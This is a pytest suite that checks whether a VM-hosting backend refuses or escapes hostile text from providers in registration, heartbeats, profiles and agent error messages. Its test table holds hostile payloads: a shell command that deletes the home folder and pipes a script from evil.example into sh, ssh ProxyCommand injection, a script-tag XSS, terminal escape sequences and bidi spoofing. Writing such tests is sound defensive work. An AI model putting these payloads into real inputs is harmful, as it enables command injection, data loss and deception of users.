"""Text a provider controls never reaches a developer's shell, argv, terminal or page
unchecked. Every field a provider declares (registration, heartbeats with their VM
inventory, address changes, its profile) is refused with 422 when it carries a hostile
value, and nothing of the request is stored; error details its agent answers with are
relayed as one bounded printable line (the VM's failureReason, the API error) and escaped
in the console.

Hostile values: shell metacharacters and substitutions, ssh option injection, HTML, line
breaks, terminal escapes (7- and 8-bit), NUL, 10 KB, unicode bidi overrides, isolates and
zero-width characters. Free text (a provider's name and contact) may hold shell or HTML
characters, as data shown escaped, but no control or invisible characters."""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from fastapi.testclient import TestClient

from kumulus.backend.models import Heartbeat, ProviderProfile
from kumulus.client import AgentClient, ApiError, CallPolicy
from kumulus.config import BackendSettings
from kumulus.core.signing import (
    Domain,
    keypair_from_mnemonic,
    new_mnemonic,
    sign_envelope,
)
from kumulus.core.untrusted_text import check_printable_line
from kumulus.server import create_server
from tests.backend.conftest import (
    FULL_ISOLATION,
    Actor,
    delegate_host,
    link_wallet,
    register_payload,
)
from tests.console.conftest import csrf_of
from tests.json_server import JsonServer
from tests.signed_agent import signed_by


@dataclass(frozen=True)
class Hostile:
    value: str
    printable: bool  # one line of printable characters (harmless as shown, escaped, data)


HOSTILE = {
    "shell": Hostile("x; rm -rf ~ && curl https://evil.example | sh", True),
    "substitution": Hostile("$(id) `id` ${HOME}", True),
    "option-injection": Hostile("-oProxyCommand=sh -c 'id>/tmp/pwn'", True),
    "html": Hostile('<script>alert("x")</script><b>bold</b>', True),
    "newline": Hostile("1.0\nX-Forged: log line", False),
    "carriage-return": Hostile("ok\r\x1b[Kfaked", False),
    "ansi": Hostile("\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07boom", False),
    "c1-csi": Hostile("red\x9b31m", False),
    "nul": Hostile("a\x00b", False),
    "10kb": Hostile("a" * 10_240, True),
    "bidi-override": Hostile("invoice\u202efdp.exe", False),
    "bidi-isolate": Hostile("\u2066admin\u2069", False),
    "zero-width": Hostile("pay\u200bpal", False),
}
HOSTILE_IDS = list(HOSTILE)


@dataclass
class World:
    client: TestClient
    provider: Actor
    developer: Actor
    host_key: Any  # what the host signs with (its key, which the wallet delegated)
    host_id: str
    token: str  # an unused host token: refused registrations must not spend it
    agent: JsonServer
    ssh_key: str


AGENT_ERROR = {"detail": "", "code": "conflict"}


def _agent(method: str, path: str) -> tuple[int, Any]:
    """A provider's agent refusing every create with the error the current test chose."""
    if method == "POST" and path.startswith("/v1/vms"):
        return 409, AGENT_ERROR
    return 404, {"detail": "not here", "code": "not_found"}


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    # One backend (with the consoles) for the whole table: each case is one request.
    data = tmp_path_factory.mktemp("provider-text") / "backend"
    settings = BackendSettings(data_dir=Path(data), heartbeat_ttl=3600, signup_credit="10")
    wallet, host_key = (keypair_from_mnemonic(new_mnemonic()) for _ in range(2))
    with (
        JsonServer(_agent, signer=host_key) as agent,
        TestClient(create_server(settings), base_url="http://127.0.0.1") as client,
    ):
        provider, developer = Actor(client, "provider"), Actor(client, "developer")
        link_wallet(client, provider, wallet)
        first = _host_token(client, provider)
        env = sign_envelope(
            host_key,
            register_payload(
                first, apiUrl=agent.url, capacity={"cpu": 4, "memory": 8 << 30, "disk": 100 << 30}
            ),
            domain=Domain.HOST_REGISTRATION,
        )
        resp = client.post("/v1/hosts/register", json=env.model_dump())
        assert resp.status_code == 201, resp.text
        delegated = delegate_host(client, wallet, resp.json()["hostId"], host_key)
        assert delegated.status_code == 200, delegated.text
        key = Ed25519PrivateKey.generate().public_key()
        ssh_key = key.public_bytes(
            serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH
        ).decode()
        yield World(
            client,
            provider,
            developer,
            host_key,
            resp.json()["hostId"],
            _host_token(client, provider),
            agent,
            ssh_key,
        )


def _host_token(client: TestClient, provider: Actor) -> str:
    return str(client.post("/v1/provider/host-tokens", headers=provider.headers).json()["token"])


def _heartbeat(world: World, **over: Any) -> dict[str, Any]:
    payload = {
        "kind": "health",
        "hostId": world.host_id,
        "agentVersion": "0.1.0",
        "host": {"cpuCount": 4, "memoryTotal": 9 << 30, "diskTotal": 120 << 30},
        "docker": {"up": True, "version": "20.10.24"},
        "vmStats": [{"vmId": "0123456789abcdef", "state": "running"}],
        "isolation": FULL_ISOLATION,
    }
    return {**payload, **over}


def _post(world: World, path: str, domain: Domain, payload: dict[str, Any]) -> httpx.Response:
    env = sign_envelope(world.host_key, payload, domain=domain)
    return world.client.post(path, json=env.model_dump())


def _register(world: World, **over: Any) -> httpx.Response:
    return _post(
        world, "/v1/hosts/register", Domain.HOST_REGISTRATION, register_payload(world.token, **over)
    )


def _beat(world: World, **over: Any) -> httpx.Response:
    return _post(world, "/v1/hosts/heartbeat", Domain.HEARTBEAT, _heartbeat(world, **over))


def _profile(world: World, **over: Any) -> httpx.Response:
    body = {"name": "Honest Hosting", "contact": "ops@example.com", "region": "eu", **over}
    return world.client.put("/v1/provider/profile", headers=world.provider.headers, json=body)


# field -> (send a request with the value in that field, token-shaped: refused even printable)
FIELDS: dict[str, tuple[Callable[[World, str], httpx.Response], bool]] = {
    "register.apiUrl": (lambda w, v: _register(w, apiUrl=f"http://{v}:8000"), True),
    "register.apiUrl-whole": (lambda w, v: _register(w, apiUrl=v), True),
    "register.publicIp": (lambda w, v: _register(w, publicIp=v), True),
    "register.agentVersion": (lambda w, v: _register(w, agentVersion=v), True),
    "register.providerToken": (
        lambda w, v: _post(w, "/v1/hosts/register", Domain.HOST_REGISTRATION, register_payload(v)),
        True,
    ),
    "heartbeat.hostId": (lambda w, v: _beat(w, hostId=v), True),
    "heartbeat.agentVersion": (lambda w, v: _beat(w, agentVersion=v), True),
    "heartbeat.vmStats.vmId": (
        lambda w, v: _beat(w, vmStats=[{"vmId": v, "state": "running"}]),
        True,
    ),
    "heartbeat.vmStats.state": (
        lambda w, v: _beat(w, vmStats=[{"vmId": "0123456789abcdef", "state": v}]),
        True,
    ),
    "heartbeat.docker.version": (lambda w, v: _beat(w, docker={"up": True, "version": v}), True),
    "heartbeat.host.cpuCount": (lambda w, v: _beat(w, host={"cpuCount": v}), True),
    "ip.publicIp": (
        lambda w, v: _post(
            w, "/v1/hosts/ip", Domain.HOST_IP, {"kind": "ip", "hostId": w.host_id, "publicIp": v}
        ),
        True,
    ),
    "profile.region": (lambda w, v: _profile(w, region=v), True),
    "profile.country": (lambda w, v: _profile(w, country=v), True),
    "profile.name": (lambda w, v: _profile(w, name=v), False),
    "profile.contact": (lambda w, v: _profile(w, contact=v), False),
}


def _stored(world: World) -> dict[str, Any]:
    """Everything a refused request could have changed."""
    resp = world.client.get("/v1/provider/hosts", headers=world.provider.headers)
    db = world.client.app.state.db  # type: ignore[attr-defined]
    with db.session() as s:
        profile = s.get(ProviderProfile, world.provider.id)
        return {
            "hosts": [
                {k: h[k] for k in ("id", "apiUrl", "publicIp", "agentVersion", "lastHeartbeatAt")}
                for h in resp.json()["items"]
            ],
            "heartbeats": s.query(Heartbeat).count(),
            "profile": (profile.name, profile.contact, profile.region, profile.country)
            if profile
            else None,
        }


# Free text may hold printable values of its length (test_free_text_is_data_shown_escaped).
REFUSED = [
    pytest.param(field, hostile, id=f"{field}-{hostile}")
    for field, (_, token_shaped) in FIELDS.items()
    for hostile, h in HOSTILE.items()
    if token_shaped or not h.printable or len(h.value) > 200
]


@pytest.mark.parametrize(("field", "hostile"), REFUSED)
def test_a_hostile_value_is_refused_where_a_provider_declares_it(
    world: World, field: str, hostile: str
) -> None:
    send, _ = FIELDS[field]
    before = _stored(world)
    resp = send(world, HOSTILE[hostile].value)
    assert resp.status_code == 422, (field, hostile, resp.status_code, resp.text[:300])
    body = resp.json()
    assert body["code"] == "invalid" and body["fields"]
    assert _stored(world) == before
    # The refusal itself echoes nothing that could drive a terminal.
    check_printable_line(body["detail"])


def test_free_text_is_data_shown_escaped(world: World) -> None:
    name = HOSTILE["html"].value[:100]
    contact = HOSTILE["option-injection"].value
    assert _profile(world, name=name, contact=contact).status_code == 200
    profile = world.client.get("/v1/provider/profile", headers=world.provider.headers).json()
    assert (profile["name"], profile["contact"]) == (name, contact)


def _login_console(world: World, actor: Actor) -> None:
    resp = world.client.post(
        "/console/login",
        data={"csrf": csrf_of(world.client), "email": actor.email, "password": actor.password},
        follow_redirects=False,
    )
    assert resp.status_code == 303, resp.text[:300]


@pytest.mark.parametrize("hostile", HOSTILE_IDS)
def test_an_agents_error_detail_is_relayed_as_one_clean_line(world: World, hostile: str) -> None:
    AGENT_ERROR["detail"] = f"no room: {HOSTILE[hostile].value}"
    AGENT_ERROR["code"] = "conflict\x1b[2J"
    assert _beat(world).status_code == 202  # online, so the VM is placed there
    resp = world.client.post(
        "/v1/vms",
        headers=world.developer.headers,
        json={"username": "dev", "sshKey": world.ssh_key, "cpu": 1, "memory": "1g"},
    )
    assert resp.status_code == 502, resp.text[:300]
    detail = resp.json()["detail"]
    check_printable_line(detail)
    assert "no room:" in detail and len(detail) <= 2100
    vm_id = re.search(r"VM (\w+) failed", detail)
    assert vm_id, detail
    vm = world.client.get(f"/v1/vms/{vm_id.group(1)}", headers=world.developer.headers).json()
    reason = vm["failureReason"]
    check_printable_line(reason)
    assert reason.startswith(f"host {world.host_id}: no room:") and len(reason) <= 2000
    if hostile == "html":
        _login_console(world, world.developer)
        page = world.client.get(f"/console/vms/{vm_id.group(1)}").text
        assert "<script>alert" not in page and "<b>bold</b>" not in page
        assert "&lt;script&gt;alert" in page and html.unescape(page).count("no room:") >= 1


@pytest.mark.parametrize("hostile", HOSTILE_IDS)
def test_an_error_read_from_an_agent_is_cleaned(hostile: str) -> None:
    value = HOSTILE[hostile].value

    def answer(_: httpx.Request) -> httpx.Response:
        return httpx.Response(409, json={"detail": f"refused: {value}", "code": value})

    host_key = keypair_from_mnemonic(new_mnemonic())
    client = AgentClient(
        "http://agent.invalid",
        "h1",
        keypair_from_mnemonic(new_mnemonic()),
        host_key.ss58_address,
        CallPolicy(allow_private=True),  # nothing is dialled: the transport answers
        transport=signed_by(host_key, answer),
    )
    with pytest.raises(ApiError) as caught:
        client.stop_vm("0123456789abcdef")
    check_printable_line(caught.value.detail)
    assert caught.value.detail.startswith("refused:") and len(caught.value.detail) <= 2000
    assert re.fullmatch(r"[a-z][a-z0-9_]*", caught.value.code)


@pytest.mark.parametrize("field", ["vmId", "state", "username", "memory"])
@pytest.mark.parametrize("hostile", ["shell", "newline", "ansi", "bidi-override", "10kb"])
def test_a_vm_answer_with_a_hostile_field_is_a_bad_answer(field: str, hostile: str) -> None:
    """What an agent answers about a VM is never stored unless it has the VM's shape."""
    vm = {
        "vmId": "0123456789abcdef",
        "username": "dev",
        "sshHost": "198.51.100.7",
        "sshPort": 2222,
        "sshCommand": "ssh -p 2222 dev@198.51.100.7",
        "status": "Running",
        "state": "running",
        "cpu": 1,
        "memory": "1g",
        "disk": None,
        "createdAt": "2026-11-30T00:00:00Z",
    }
    host_key = keypair_from_mnemonic(new_mnemonic())
    client = AgentClient(
        "http://agent.invalid",
        "h1",
        keypair_from_mnemonic(new_mnemonic()),
        host_key.ss58_address,
        CallPolicy(allow_private=True),  # nothing is dialled: the transport answers
        transport=signed_by(host_key, lambda _: httpx.Response(200, json=vm)),
    )
    assert client.get_vm("0123456789abcdef").vm_id == "0123456789abcdef"
    vm[field] = HOSTILE[hostile].value
    with pytest.raises(ApiError) as caught:
        client.get_vm("0123456789abcdef")
    assert caught.value.code == "bad_answer"
